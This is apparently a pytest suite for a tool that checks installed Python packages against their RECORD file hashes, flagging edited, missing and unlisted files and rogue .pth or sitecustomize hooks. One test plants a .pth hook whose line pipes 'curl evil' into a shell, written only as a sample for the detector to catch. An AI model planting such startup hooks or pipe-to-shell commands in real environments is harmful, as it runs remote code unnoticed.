"""The integrity check: an installed distribution's files are the ones its RECORD lists.

Each test installs a real wheel, built here with ``zipfile`` (a correct RECORD), with
``pip install --no-index --target`` into a directory of its own, and binds the check to that
directory; nothing touches the running interpreter's site-packages.
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path
from typing import Any

import pytest

from pytest_mlsupply.checks.base import CheckContext
from pytest_mlsupply.checks.content import ContentCache
from pytest_mlsupply.checks.dependency_integrity import integrity_check
from pytest_mlsupply.manifest.model import Manifest, OutputDecl, Policy
from pytest_mlsupply.results import Finding, Severity, Verdict
from pytest_mlsupply.sources.inventory import Dependency, Inventory
from tests.installed import NAME, VERSION, build_wheel, pip_install


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_wheel(tmp_path_factory.mktemp("wheel"))


@pytest.fixture(scope="module")
def from_index(wheel: Path) -> Path:
    return pip_install(wheel, wheel.parent / "index-site", from_file=False)


@pytest.fixture(scope="module")
def from_file(wheel: Path) -> Path:
    return pip_install(wheel, wheel.parent / "file-site", from_file=True)


@pytest.fixture
def site(from_index: Path, tmp_path: Path) -> Path:
    """A fresh copy of the installed tree, for one test to tamper with."""
    copy = tmp_path / "site"
    shutil.copytree(from_index, copy, symlinks=True)
    return copy


def context(tmp_path: Path) -> CheckContext:
    manifest = Manifest(
        path=tmp_path / "mlsupply.yaml",
        version=1,
        policy=Policy(),
        output=OutputDecl(bom=tmp_path / "bom.json", matrix=tmp_path / "matrix"),
        project_name="t",
    )
    inventory = Inventory(manifest=manifest, models=(), datasets=(), dependencies=())
    return CheckContext(policy=manifest.policy, inventory=inventory, contents=ContentCache())


def declared(version: str = VERSION, hashes: tuple[str, ...] = ()) -> Dependency:
    return Dependency(
        name=NAME,
        requirement=f"{NAME}=={version}",
        origin="requirements.txt:1",
        version=version,
        hashes=hashes,
    )


def run(
    site: Path, tmp_path: Path, dep: Dependency | None = None
) -> tuple[list[Finding], dict[str, Any]]:
    check = integrity_check([str(site)])
    dep = dep or declared()
    assert check.applies(dep)
    outcome = check.run(dep, context(tmp_path))
    assert outcome.error is None
    return outcome.findings, outcome.facts


def rules(findings: list[Finding]) -> list[str]:
    return [finding.rule for finding in findings]


def test_a_freshly_installed_wheel_passes_with_every_hashed_file_verified(
    site: Path, tmp_path: Path
) -> None:
    findings, facts = run(site, tmp_path)

    assert findings == []
    # 3 package files + METADATA, WHEEL, top_level.txt; pip adds INSTALLER (hashed) too.
    assert facts["files_verified"] >= 6
    assert facts["installed"].endswith(f"{NAME}-{VERSION}.dist-info")


def test_a_file_edited_after_install_fails_naming_the_file(site: Path, tmp_path: Path) -> None:
    core = site / "tinypkg" / "core.py"
    core.write_bytes(b"import os\ndef answer():\n    return 42\n")

    findings, _ = run(site, tmp_path)

    (finding,) = findings
    assert finding.rule == "MLS-DEP-030"
    assert finding.severity is Severity.HIGH
    assert finding.location.member == "tinypkg/core.py"
    assert "tinypkg/core.py" in finding.evidence
    assert finding.cwe == "CWE-494"


def test_an_edit_that_keeps_the_size_is_still_caught_by_the_hash(
    site: Path, tmp_path: Path
) -> None:
    core = site / "tinypkg" / "core.py"
    original = core.read_bytes()
    core.write_bytes(original.replace(b"42", b"41"))
    assert len(core.read_bytes()) == len(original)

    findings, _ = run(site, tmp_path)

    assert rules(findings) == ["MLS-DEP-030"]
    assert findings[0].location.member == "tinypkg/core.py"


def test_a_deleted_file_fails_as_missing(site: Path, tmp_path: Path) -> None:
    (site / "tinypkg" / "data" / "table.json").unlink()

    findings, _ = run(site, tmp_path)

    assert rules(findings) == ["MLS-DEP-031"]
    assert "tinypkg/data/table.json" in findings[0].evidence


def test_a_module_dropped_inside_the_package_fails_as_unlisted(site: Path, tmp_path: Path) -> None:
    (site / "tinypkg" / "data" / "hook.py").write_text("import os\n")

    findings, _ = run(site, tmp_path)

    assert rules(findings) == ["MLS-DEP-032"]
    assert findings[0].location.member == "tinypkg/data/hook.py"


def test_a_pth_file_dropped_inside_the_package_fails_as_unlisted(
    site: Path, tmp_path: Path
) -> None:
    (site / "tinypkg" / "startup.pth").write_text("import os; os.system('true')\n")

    findings, _ = run(site, tmp_path)

    assert rules(findings) == ["MLS-DEP-032"]
    assert "tinypkg/startup.pth" in findings[0].evidence


def test_bytecode_in_pycache_and_unlisted_data_files_are_not_findings(
    site: Path, tmp_path: Path
) -> None:
    cache = site / "tinypkg" / "__pycache__"
    cache.mkdir(exist_ok=True)
    (cache / "core.cpython-311.pyc").write_bytes(b"\x00" * 16)
    (site / "tinypkg" / "notes.txt").write_text("not code\n")

    findings, _ = run(site, tmp_path)

    assert findings == []


def test_a_distribution_without_a_record_cannot_be_verified_and_does_not_pass(
    site: Path, tmp_path: Path
) -> None:
    (site / f"{NAME}-{VERSION}.dist-info" / "RECORD").unlink()

    findings, _ = run(site, tmp_path)

    assert rules(findings) == ["MLS-DEP-033"]
    assert findings[0].severity is Severity.MEDIUM  # a warning, never a silent pass


def test_a_declared_version_other_than_the_installed_one_is_out_of_reach(site: Path) -> None:
    check = integrity_check([str(site)])

    assert not check.applies(declared("2.0.0"))
    assert not check.applies(
        Dependency(
            name="not-installed", requirement="not-installed==1.0", origin="r:1", version="1.0"
        )
    )


def test_an_equal_version_spelled_differently_applies(site: Path) -> None:
    assert integrity_check([str(site)]).applies(declared("1.0"))


def test_hash_pins_cannot_be_decided_for_an_install_without_an_archive_hash(
    site: Path, tmp_path: Path
) -> None:
    findings, facts = run(site, tmp_path, declared(hashes=(f"sha256:{'a' * 64}",)))

    assert findings == []
    assert facts["hash_pins"] == "undecided"
    assert "direct_url.json" in facts["hash_pins_reason"]


def test_hash_pins_matching_the_archive_pip_installed_from_pass(
    from_file: Path, wheel: Path, tmp_path: Path
) -> None:
    wheel_sha = hashlib.sha256(wheel.read_bytes()).hexdigest()

    findings, facts = run(from_file, tmp_path, declared(hashes=(f"sha256:{wheel_sha}",)))

    assert findings == []
    assert facts["hash_pins"] == "match"


def test_hash_pins_that_differ_from_the_archive_pip_installed_from_fail(
    from_file: Path, wheel: Path, tmp_path: Path
) -> None:
    findings, facts = run(from_file, tmp_path, declared(hashes=(f"sha256:{'b' * 64}",)))

    assert rules(findings) == ["MLS-DEP-034"]
    assert hashlib.sha256(wheel.read_bytes()).hexdigest() in findings[0].evidence
    assert facts["hash_pins"] == "mismatch"


def test_the_check_runs_through_the_registry_and_fails_the_cell(
    site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The registered check reads sys.path, as the running interpreter imports.
    from pytest_mlsupply.checks.registry import DEPENDENCY_CHECKS
    from pytest_mlsupply.checks.runner import run_item
    from pytest_mlsupply.plan import build_plan

    monkeypatch.syspath_prepend(str(site))
    (site / "tinypkg" / "core.py").write_text("tampered = True\n")
    ctx = context(tmp_path)
    inventory = Inventory(
        manifest=ctx.inventory.manifest, models=(), datasets=(), dependencies=(declared(),)
    )
    ctx = CheckContext(policy=ctx.policy, inventory=inventory, contents=ContentCache())

    assert "integrity" in {check.name for check in DEPENDENCY_CHECKS}
    (item,) = build_plan(inventory)
    assert "integrity" in item.checks
    (result,) = [r for r in run_item(item, ctx) if r.check == "integrity"]
    assert result.verdict(Severity.HIGH) is Verdict.FAIL
    assert result.findings[0].location.member == "tinypkg/core.py"


def test_a_pth_hook_dropped_in_site_packages_fails_every_distribution_there(
    site: Path, tmp_path: Path
) -> None:
    (site / "zzz-telemetry.pth").write_text("import os; os.system('curl evil | sh')\n")

    findings, _ = run(site, tmp_path)

    (finding,) = findings
    assert (finding.rule, finding.severity) == ("MLS-DEP-035", Severity.HIGH)
    assert finding.location.member == "zzz-telemetry.pth"
    assert finding.location.file == str(site)


def test_a_sitecustomize_no_record_lists_fails_too(site: Path, tmp_path: Path) -> None:
    (site / "sitecustomize.py").write_text("import os\n")

    findings, _ = run(site, tmp_path)

    assert [(f.rule, f.severity) for f in findings] == [("MLS-DEP-035", Severity.HIGH)]
    assert "sitecustomize.py" in findings[0].evidence


def test_a_pth_that_only_adds_paths_is_a_medium_finding(site: Path, tmp_path: Path) -> None:
    (site / "easy-install.pth").write_text("# added by setup.py develop\n/src/project\n")

    findings, _ = run(site, tmp_path)

    assert [(f.rule, f.severity) for f in findings] == [("MLS-DEP-035", Severity.MEDIUM)]


def test_virtualenvs_own_shim_is_not_a_finding_but_an_edited_one_is(
    site: Path, tmp_path: Path
) -> None:
    shim = site / "_virtualenv.pth"
    shim.write_text("import _virtualenv")
    assert run(site, tmp_path)[0] == []

    shim.write_text("import _virtualenv; import os\n")
    findings, _ = run(site, tmp_path)
    assert [f.rule for f in findings] == ["MLS-DEP-035"]
